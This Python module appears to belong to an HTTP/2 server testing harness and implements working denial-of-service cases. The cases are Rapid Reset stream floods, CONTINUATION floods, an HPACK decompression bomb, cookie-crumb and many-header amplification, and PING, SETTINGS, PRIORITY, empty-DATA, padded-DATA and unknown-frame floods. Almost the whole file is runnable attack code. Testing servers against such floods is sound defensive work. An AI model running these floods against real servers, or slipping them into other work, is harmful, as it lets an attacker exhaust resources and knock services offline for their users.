"""Hostile rows h20, h21 and h23: resets, heads without bounds, and floods of frames that cost the sender nothing.

A case takes a `Target` and `Options` and yields (variant, what was sent, the connection) once for each connection, when
it has nothing more to send.
"""

import itertools
import os

from h2_peer import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LARGEST_WINDOW, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, Peer, frame,
)

CANCEL = (8).to_bytes(4, "big")
# The largest payload that every HTTP/2 implementation takes (RFC 9113 §4.2).
LARGEST = 16 * 1024
BATCH = 500


def streams(count):
    return range(1, 2 * count, 2)


def flood(peer, pieces, options, fence=True):
    """Sends pieces in batches until they are all gone, the connection ends, or it said GOAWAY. How many went,
    in batches that went whole.

    With `fence`, a PING follows: a case whose frames get no answer is over when this one has.
    """
    pieces, sent = iter(pieces), 0
    while batch := list(itertools.islice(pieces, BATCH)):
        if options.over() or peer.goaway or not peer.send(b"".join(batch), options.left()):
            break
        sent += len(batch)
    if fence:
        peer.fence()
    return sent


# === h20 ===


def rapid_reset(target, options):
    """HEADERS and RST_STREAM, once until it is cut off, and again by new connections until all streams are used."""
    for how in ("once", "again"):
        if options.how not in (None, how):
            continue
        left = count = options.count or 10_000
        for connections in itertools.count(1):
            peer = Peer(target)
            pieces = (peer.request(stream) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams(left))
            left -= flood(peer, pieces, options)
            if how == "once" or left <= 0 or options.over():
                break
            peer.wait(lambda: peer.goaway or peer.closed, 1)
            peer.close()
        yield how, {"streams": count - left, "connections": connections}, peer


def provoked_resets(target, options):
    """Frames for which the other side has to reset the stream by itself: its work is done for nothing as well."""
    count = options.count or 2_000
    for how in ("zero", "overflow", "after_end"):
        peer = Peer(target)

        def piece(stream):
            wrong = {
                "zero": lambda: frame(WINDOW_UPDATE, 0, stream, bytes(4)),
                "overflow": lambda: frame(WINDOW_UPDATE, 0, stream, LARGEST_WINDOW.to_bytes(4, "big")),
                "after_end": lambda: peer.request(stream),
            }
            return peer.request(stream) + wrong[how]()

        yield how, {"streams": flood(peer, map(piece, streams(count)), options)}, peer


# === h21 ===


def _literal(name, value):
    """A field that enters no table (RFC 7541 §6.2.2), without Huffman."""
    return b"\0" + _string(name) + _string(value)


def _indexed(name, value):
    """A field that becomes entry 62, the first of the dynamic table (§6.2.1)."""
    return b"\x40" + _string(name) + _string(value)


def _string(text):
    """§5.2, for up to 16 KiB."""
    size = len(text)
    if size < 127:
        return bytes([size]) + text
    return bytes([127, (size - 127) & 127 | 128, (size - 127) >> 7]) + text


# Entry 62 (§6.1).
AGAIN = b"\xbe"


def _head(peer, block, last=True):
    """The ordinary head with a block behind it, in as many frames as it takes."""
    ordinary = peer.target.fields()
    block = b"".join(_literal(name.encode(), value.encode()) for name, value in ordinary) + block
    pieces = [block[at : at + LARGEST] for at in range(0, len(block), LARGEST)]
    yield frame(HEADERS, END_STREAM | (END_HEADERS if last and len(pieces) == 1 else 0), 1, pieces[0])
    for number, piece in enumerate(pieces[1:], 2):
        yield frame(CONTINUATION, END_HEADERS if last and number == len(pieces) else 0, 1, piece)


def continuation_flood(target, options):
    """A head that never ends, in full frames."""
    peer = Peer(target)
    count = options.count or 1_000
    field = _literal(b"x-flood", b"v" * 100)
    piece = frame(CONTINUATION, 0, 1, field * (LARGEST // len(field)))
    pieces = itertools.chain(_head(peer, b"", last=False), itertools.repeat(piece, count))
    yield "", {"frames": flood(peer, pieces, options, fence=False)}, peer


def empty_continuation(target, options):
    """A head that never ends, in frames without anything."""
    peer = Peer(target)
    empty = itertools.repeat(frame(CONTINUATION, 0, 1), options.count or 100_000)
    pieces = itertools.chain(_head(peer, b"", last=False), empty)
    yield "", {"frames": flood(peer, pieces, options, fence=False)}, peer


def hpack_bomb(target, options):
    """One large field in the table, and a head that names it with one byte each (RFC 7541 §6.1)."""
    peer, count, size = Peer(target), options.count or 16_000, 4000
    pieces = _head(peer, _indexed(b"x-bomb", b"b" * size) + AGAIN * count)
    yield "", {"frames": flood(peer, pieces, options, fence=False), "decoded_bytes": (count + 1) * (size + 6)}, peer


def cookie_crumbs(target, options):
    """A cookie in thousands of fields (RFC 9113 §8.2.3), one byte each on the wire."""
    peer, count = Peer(target), options.count or 5_000
    pieces = _head(peer, _indexed(b"cookie", b"a=b") + AGAIN * count)
    yield "", {"frames": flood(peer, pieces, options, fence=False), "crumbs": count + 1}, peer


def many_names(target, options):
    """A head with 25,000 names."""
    peer, count = Peer(target), options.count or 25_000
    block = b"".join(_literal(b"x-%05d" % number, b"") for number in range(count))
    yield "", {"frames": flood(peer, _head(peer, block), options, fence=False), "names": count}, peer


# === h23 ===


def _frames(target, options, piece, count):
    peer = Peer(target)
    return "", {"frames": flood(peer, itertools.repeat(piece, options.count or count), options)}, peer


def ping_flood(target, options):
    yield _frames(target, options, frame(PING, 0, 0, bytes(8)), 100_000)


def settings_flood(target, options):
    yield _frames(target, options, frame(SETTINGS, 0, 0, bytes([0, 3, 0, 0, 0, 100])), 50_000)


def priority_flood(target, options):
    """For streams that do not exist."""
    peer, count = Peer(target), options.count or 100_000
    pieces = (frame(PRIORITY, 0, stream, bytes([0, 0, 0, 0, 16])) for stream in streams(count))
    yield "", {"frames": flood(peer, pieces, options)}, peer


def _upload(target):
    """A connection with a request whose body goes on."""
    peer = Peer(target)
    path = "/grpc.testing.TestService/StreamingInputCall" if target.grpc else None
    peer.send(peer.request(1, target.fields("POST", path), end=False))
    peer.wait(lambda: peer.frames["SETTINGS"], 2)
    return peer


def empty_data_flood(target, options):
    """DATA without data and without END_STREAM: no window stops it."""
    peer = _upload(target)
    pieces = itertools.repeat(frame(DATA, 0, 1), options.count or 100_000)
    yield "", {"frames": flood(peer, pieces, options)}, peer


def padded_data(target, options):
    """DATA that is padding only, as much as the windows allow (RFC 9113 §6.1: padding counts)."""
    peer, sent, used, count = _upload(target), 0, 0, options.count or 50_000
    piece = frame(DATA, PADDED, 1, b"\xff" + bytes(255))
    while sent < count and not options.over() and not peer.closed and not peer.is_over(1):
        open_for = min(peer.window, peer.initial_window + peer.windows[1]) - used
        pieces = min(open_for // 256, count - sent, BATCH)
        if pieces <= 0:
            if not peer.wait(lambda: min(peer.window, peer.initial_window + peer.windows[1]) - used >= 256, 2):
                break
            continue
        peer.send(piece * pieces, options.left())
        sent, used = sent + pieces, used + 256 * pieces
    peer.fence()
    yield "", {"frames": sent}, peer


def unknown_frames(target, options):
    """Frames of kinds that nobody knows, on the connection and on a stream; they have to be ignored (§5.5)."""
    peer = _upload(target)
    count, filler = options.count or 20_000, os.urandom(512)
    pieces = (frame(0xB0 + number % 16, 0xFF, number % 2, filler) for number in range(count))
    yield "", {"frames": flood(peer, pieces, options)}, peer


CASES = {
    case.__name__: case
    for case in [
        rapid_reset, provoked_resets, continuation_flood, empty_continuation, hpack_bomb, cookie_crumbs, many_names,
        ping_flood, settings_flood, priority_flood, empty_data_flood, padded_data, unknown_frames,
    ]
}
